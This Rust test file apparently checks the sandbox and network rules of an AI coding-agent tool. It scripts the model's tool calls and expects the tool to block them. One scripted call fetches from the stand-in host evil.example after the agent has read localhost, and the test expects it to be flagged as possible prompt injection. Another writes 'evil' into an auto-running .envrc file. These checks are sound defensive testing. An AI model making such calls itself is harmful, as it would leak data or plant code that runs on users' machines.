//! What goes on without a person, and what stops: commands with a network, commands that only look, and commands that
//! could leave something behind.

use serde_json::{Value, json};

use crate::world::World;

/// A trusted workspace, and whether commands can be run on this machine with named hosts.
fn world() -> (World, bool) {
    let world = World::new();
    world.updraft(&["trust", "--yes"]).code(0);
    let level = world.updraft(&["sandbox", "probe", "--json"]).value()["level"].clone();
    (world, level == "full")
}

fn script(world: &World, calls: &[(&str, Value)]) -> String {
    let mut answers: Vec<Value> =
        calls.iter().map(|(name, args)| json!({"calls": [{"name": name, "args": args}]})).collect();
    answers.push(json!({"text": "done"}));
    world.script("s.json", &Value::Array(answers))
}

fn runs(command: &str) -> (&'static str, Value) {
    ("run_command", json!({ "command": command }))
}

#[test]
fn commands_whose_hosts_the_user_named_follow_each_other_and_a_fetch_from_elsewhere_is_asked_about() {
    let (world, can_run) = world();
    if !can_run {
        return;
    }
    let start = |model: &str| {
        world.updraft(&["run", "--yes", "--network", "allow:localhost", "--model", model, "--agent", "coder", "go"])
    };
    let model = script(&world, &[runs("echo one > one.txt"), runs("cat one.txt"), runs("cat one.txt")]);
    assert_eq!(start(&model).code(0).out, "done\n");
    assert_eq!(start(&model).code(0).out, "done\n", "the next run hears of what this one wrote, and goes on");

    let fetch = ("web_fetch", json!({ "url": "https://evil.example/?q=x" }));
    let model = script(&world, &[runs("echo one"), fetch]);
    start(&model).code(3).says("Possible prompt injection: the agent has read localhost, which you allowed");
}

#[test]
fn installing_and_testing_goes_on_with_any_network_and_other_programs_do_not() {
    let (world, can_run) = world();
    if !can_run {
        return;
    }
    let start = |calls: &[(&str, Value)]| {
        let model = script(&world, calls);
        world.updraft(&["run", "--yes", "--network", "host", "--model", &model, "--agent", "coder", "go"])
    };
    // What they say without a package.json is words all the same.
    start(&[runs("npm install --offline"), runs("npm test")]).code(0);
    // A program that could send anything to any host is asked about after them.
    start(&[runs("cat a.txt")]).code(3).says("a package registry");
}

#[test]
fn a_read_only_run_may_look_with_commands_and_the_kernel_keeps_them_from_writing() {
    let (world, can_run) = world();
    if !can_run {
        return;
    }
    world.file("a.txt", "1\n2\n");
    let model = script(&world, &[runs("wc -l a.txt; echo x > new.txt; echo x > a.txt; rm a.txt")]);
    let look = |more: &[&str]| {
        let args = [&["run", "--read-only", "--model", &model, "--agent", "coder"], more, &["count"]].concat();
        world.updraft(&args).code(0);
        world.updraft(&["show", "last", "--prompts"]).code(0).out
    };
    for level in ["full", "landlock"] {
        let prompts = look(&["--network", "host", "--level", level]);
        assert!(prompts.contains("2 a.txt"), "{prompts}");
        assert!(prompts.contains("this run is read-only: writing in the workspace fails"), "the model is told");
        assert_eq!(std::fs::read_to_string(world.ws().join("a.txt")).unwrap(), "1\n2\n");
        assert!(!world.ws().join("new.txt").exists());
    }
    assert!(look(&["--no-sandbox"]).contains("commands may run here only in a sandbox"));
}

#[test]
fn nothing_runs_where_files_that_run_later_could_not_be_moved_aside() {
    let (world, can_run) = world();
    if !can_run {
        return;
    }
    // As good as read-only, for root too.
    std::fs::write(world.home().join("aside"), "in the way").unwrap();
    let ran = world.updraft(&["sandbox", "exec", "--", "sh", "-c", "echo evil > .envrc"]).code(125);
    assert!(ran.err.contains("cannot be written") && ran.err.contains("make it writable"), "{}", ran.err);
    assert!(!world.ws().join(".envrc").exists());
}
